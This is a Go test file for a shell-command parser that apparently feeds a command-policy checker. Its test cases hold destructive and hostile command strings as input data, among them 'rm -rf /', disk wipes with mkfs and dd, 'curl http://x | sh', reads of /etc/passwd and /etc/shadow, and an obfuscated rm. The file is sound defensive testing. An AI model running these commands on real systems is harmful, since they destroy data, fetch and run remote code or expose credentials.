package ssh

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"github.com/airlock-mcp/airlock/policy"
)

func cmd(program string, args ...string) policy.Command {
	if args == nil {
		args = []string{}
	}
	return policy.Command{Program: program, Args: args}
}

func TestShellFacts(t *testing.T) {
	cases := []struct {
		name    string
		command string
		want    policy.Shell
	}{
		{
			name: "list", command: "ls; rm -rf /",
			want: policy.Shell{Commands: []policy.Command{cmd("ls"), cmd("rm", "-rf", "/")}, Programs: []string{"ls", "rm"}},
		},
		{
			name: "command substitution", command: "echo $(rm -rf /)",
			want: policy.Shell{
				Commands: []policy.Command{cmd("echo", "$(rm -rf /)"), cmd("rm", "-rf", "/")},
				Programs: []string{"echo", "rm"}, HasSubstitution: true,
			},
		},
		{
			name: "backquotes", command: "echo `id`",
			want: policy.Shell{Commands: []policy.Command{cmd("echo", "$(id)"), cmd("id")}, Programs: []string{"echo", "id"}, HasSubstitution: true},
		},
		{
			name: "process substitution", command: "diff <(ls a) <(ls b)",
			want: policy.Shell{
				Commands: []policy.Command{cmd("diff", "<(ls a)", "<(ls b)"), cmd("ls", "a"), cmd("ls", "b")},
				Programs: []string{"diff", "ls"}, HasSubstitution: true,
			},
		},
		{
			name: "redirect writes a file", command: "cat /etc/passwd > /tmp/x",
			want: policy.Shell{Commands: []policy.Command{cmd("cat", "/etc/passwd")}, Programs: []string{"cat"}, HasRedirect: true, WritesFiles: []string{"/tmp/x"}},
		},
		{
			name: "redirects that write and that do not", command: "ls >>log 2>&1 </dev/null &>all; echo x >&2; echo y >&out",
			want: policy.Shell{
				Commands: []policy.Command{cmd("ls"), cmd("echo", "x"), cmd("echo", "y")},
				Programs: []string{"ls", "echo"}, HasRedirect: true, WritesFiles: []string{"log", "all", "out"},
			},
		},
		{
			name: "bash -c script", command: `bash -c "rm -rf /"`,
			want: policy.Shell{Commands: []policy.Command{cmd("bash", "-c", "rm -rf /"), cmd("rm", "-rf", "/")}, Programs: []string{"bash", "rm"}},
		},
		{
			name: "sh -ec script with redirect", command: `/bin/sh -ec 'echo hi > /etc/motd' name`,
			want: policy.Shell{
				Commands: []policy.Command{cmd("/bin/sh", "-ec", "echo hi > /etc/motd", "name"), cmd("echo", "hi")},
				Programs: []string{"sh", "echo"}, HasRedirect: true, WritesFiles: []string{"/etc/motd"},
			},
		},
		{
			name: "zsh and dash -c", command: `zsh -c 'dash -c "mkfs.ext4 /dev/sda"'`,
			want: policy.Shell{
				Commands: []policy.Command{cmd("zsh", "-c", `dash -c "mkfs.ext4 /dev/sda"`), cmd("dash", "-c", "mkfs.ext4 /dev/sda"), cmd("mkfs.ext4", "/dev/sda")},
				Programs: []string{"zsh", "dash", "mkfs.ext4"},
			},
		},
		{
			name: "bash reading a file is opaque", command: "bash script.sh",
			want: policy.Shell{Commands: []policy.Command{cmd("bash", "script.sh")}, Programs: []string{"bash"}},
		},
		{
			name: "sudo with options", command: "sudo -u root id",
			want: policy.Shell{Commands: []policy.Command{cmd("sudo", "-u", "root", "id"), cmd("id")}, Programs: []string{"sudo", "id"}, UsesSudo: true},
		},
		{
			name: "sudo with attached and long options", command: "sudo -uroot --group=adm -n -- systemctl restart nginx",
			want: policy.Shell{
				Commands: []policy.Command{cmd("sudo", "-uroot", "--group=adm", "-n", "--", "systemctl", "restart", "nginx"), cmd("systemctl", "restart", "nginx")},
				Programs: []string{"sudo", "systemctl"}, UsesSudo: true,
			},
		},
		{
			name: "sudo sh -c", command: `sudo sh -c 'dd if=/dev/zero of=/dev/sda'`,
			want: policy.Shell{
				Commands: []policy.Command{cmd("sudo", "sh", "-c", "dd if=/dev/zero of=/dev/sda"), cmd("sh", "-c", "dd if=/dev/zero of=/dev/sda"), cmd("dd", "if=/dev/zero", "of=/dev/sda")},
				Programs: []string{"sudo", "sh", "dd"}, UsesSudo: true,
			},
		},
		{
			name: "su -c", command: `su - root -c 'ls /root'`,
			want: policy.Shell{Commands: []policy.Command{cmd("su", "-", "root", "-c", "ls /root"), cmd("ls", "/root")}, Programs: []string{"su", "ls"}, UsesSudo: true},
		},
		{
			name: "curl piped to sh", command: "curl http://x | sh",
			want: policy.Shell{Commands: []policy.Command{cmd("curl", "http://x"), cmd("sh")}, Programs: []string{"curl", "sh"}},
		},
		{
			name: "wrappers", command: "env FOO=1 timeout -s KILL 5 nice -n 3 nohup rm -rf /srv",
			want: policy.Shell{
				Commands: []policy.Command{
					cmd("env", "FOO=1", "timeout", "-s", "KILL", "5", "nice", "-n", "3", "nohup", "rm", "-rf", "/srv"),
					cmd("timeout", "-s", "KILL", "5", "nice", "-n", "3", "nohup", "rm", "-rf", "/srv"),
					cmd("nice", "-n", "3", "nohup", "rm", "-rf", "/srv"),
					cmd("nohup", "rm", "-rf", "/srv"),
					cmd("rm", "-rf", "/srv"),
				},
				Programs: []string{"env", "timeout", "nice", "nohup", "rm"},
			},
		},
		{
			name: "xargs and find -exec", command: `find /tmp -name '*.log' -exec rm -f {} + | xargs -n1 -I{} shred {}`,
			want: policy.Shell{
				Commands: []policy.Command{
					cmd("find", "/tmp", "-name", "*.log", "-exec", "rm", "-f", "{}", "+"), cmd("rm", "-f", "{}"),
					cmd("xargs", "-n1", "-I{}", "shred", "{}"), cmd("shred", "{}"),
				},
				Programs: []string{"find", "rm", "xargs", "shred"},
			},
		},
		{
			name: "eval", command: `eval "rm -rf /"`,
			want: policy.Shell{Commands: []policy.Command{cmd("eval", "rm -rf /"), cmd("rm", "-rf", "/")}, Programs: []string{"eval", "rm"}},
		},
		{
			name: "quote removal", command: `r\m -r'f' "/"v`,
			want: policy.Shell{Commands: []policy.Command{cmd("rm", "-rf", "/v")}, Programs: []string{"rm"}},
		},
		{
			name: "parameters stay literal", command: `echo "$HOME" ${X:-y} "\$z"`,
			want: policy.Shell{Commands: []policy.Command{cmd("echo", "$HOME", "${X:-y}", "$z")}, Programs: []string{"echo"}},
		},
		{
			name: "subshell, function, && and ||", command: `(cd /tmp && ls) || f() { journalctl -n 5; }`,
			want: policy.Shell{Commands: []policy.Command{cmd("cd", "/tmp"), cmd("ls"), cmd("journalctl", "-n", "5")}, Programs: []string{"cd", "ls", "journalctl"}},
		},
		{
			name: "assignment with substitution", command: `export A=$(cat /etc/shadow)`,
			want: policy.Shell{Commands: []policy.Command{cmd("export", "A=$(cat /etc/shadow)"), cmd("cat", "/etc/shadow")}, Programs: []string{"export", "cat"}, HasSubstitution: true},
		},
		{
			name: "unbalanced quotes", command: `echo 'abc`,
			want: policy.Shell{ParseError: "1:6: reached EOF without closing quote `'`"},
		},
		{
			name: "nested script that does not parse", command: `bash -c 'echo "x'`,
			want: policy.Shell{
				Commands: []policy.Command{cmd("bash", "-c", `echo "x`)}, Programs: []string{"bash"},
				ParseError: "in the script run by bash: 1:6: reached EOF without closing quote `\"`",
			},
		},
		{
			name: "empty", command: "  ",
			want: policy.Shell{},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := ShellFacts(tc.command)
			want := normalize(tc.want)
			if !reflect.DeepEqual(got, want) {
				g, _ := json.MarshalIndent(got, "", "  ")
				w, _ := json.MarshalIndent(want, "", "  ")
				t.Errorf("ShellFacts(%q)\n got %s\nwant %s", tc.command, g, w)
			}
		})
	}
}

func normalize(s policy.Shell) policy.Shell {
	if s.Commands == nil {
		s.Commands = []policy.Command{}
	}
	if s.Programs == nil {
		s.Programs = []string{}
	}
	if s.WritesFiles == nil {
		s.WritesFiles = []string{}
	}
	return s
}

func TestShellFactsNestingLimit(t *testing.T) {
	command := "id"
	for range maxScriptDepth + 2 {
		command = "sh -c " + shellQuote(command)
	}
	got := ShellFacts(command)
	if !strings.Contains(got.ParseError, "nested more than") {
		t.Errorf("ParseError = %q, want a nesting error", got.ParseError)
	}
	wrapped := strings.Repeat("nice ", maxScriptDepth+2) + "id"
	if got := ShellFacts(wrapped); !strings.Contains(got.ParseError, "wrapped more than") {
		t.Errorf("ParseError = %q, want a wrapping error", got.ParseError)
	}
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func FuzzShellFacts(f *testing.F) {
	for _, s := range []string{"ls; rm -rf /", `bash -c "x $(y)"`, "sudo -u a b", "a | b > c"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { _ = ShellFacts(s) })
}
